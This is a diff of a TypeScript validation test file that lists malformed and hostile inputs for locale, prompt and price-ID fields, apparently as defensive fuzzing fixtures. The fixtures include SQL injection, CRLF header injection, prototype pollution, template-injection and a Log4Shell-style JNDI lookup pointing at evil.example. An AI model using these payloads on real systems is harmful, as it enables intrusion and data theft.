@@ -54,9 +54,18 @@ const WRONG: [string, Record<string, unknown>][] = [
   ...['', 'EN', 'xx', '../..', `//${MARK}`, 'en\r\nSet-Cookie: a=b', '__proto__', null, ['en']].map(
     (locale): [string, Record<string, unknown>] => ['locale', { locale }],
   ),
-  ...['', ' \n\t ', long(2_001), null, 7, ['x'], { toString: 'x' }].map(
-    (prompt): [string, Record<string, unknown>] => ['prompt', { prompt }],
-  ),
+  ...[
+    '',
+    ' \n\t ',
+    '\u200B\u3164',
+    '\uD800 half a pair',
+    '\u0000zero\u0000',
+    long(2_001),
+    null,
+    7,
+    ['x'],
+    { toString: 'x' },
+  ].map((prompt): [string, Record<string, unknown>] => ['prompt', { prompt }]),
   ...['', 'price_three', 'price_other', '__proto__', `price_one' OR '1'='1`, long(256), null].map(
     (priceId): [string, Record<string, unknown>] => ['priceId', { priceId }],
   ),
@@ -79,8 +88,6 @@ const PROMPTS = [
   `'; DROP TABLE generations; --`,
   `%' OR prompt LIKE '%`,
   '\u202Egnp.4pm\u2066',
-  '\uD800 half a pair',
-  '\u0000zero\u0000',
   'Z\u0351\u0352\u0357'.repeat(400),
   '{{constructor.constructor("return 1")()}}',
   '${jndi:ldap://evil.example/a}',
